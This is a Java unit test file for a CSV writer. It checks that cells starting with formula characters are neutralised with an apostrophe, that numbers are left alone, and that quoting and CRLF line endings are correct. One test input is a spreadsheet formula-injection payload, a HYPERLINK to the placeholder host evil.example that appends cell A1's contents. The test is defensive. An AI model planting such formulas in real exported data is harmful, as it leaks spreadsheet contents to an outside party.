package org.hygiene.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CsvWriterTest {
    @Test
    void formulasBecomeTextButNumbersStayNumbers() {
        assertThat(CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
        assertThat(CsvWriter.cell("+cmd")).isEqualTo("'+cmd");
        assertThat(CsvWriter.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvWriter.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvWriter.cell("\tx")).isEqualTo("'\tx");
        assertThat(CsvWriter.cell("\rx")).isEqualTo("\"'\rx\"");
        assertThat(CsvWriter.cell("-0.67")).isEqualTo("-0.67");
        assertThat(CsvWriter.cell("+5")).isEqualTo("+5");
        assertThat(CsvWriter.cell("-")).isEqualTo("'-");
    }

    @Test
    void rowsAreQuotedOnlyWhereNeededAndEndInCrLf() {
        assertThat(CsvWriter.row(List.of("a", "b,c", "say \"hi\"", "")))
                .isEqualTo("a,\"b,c\",\"say \"\"hi\"\"\",\r\n");
    }
}
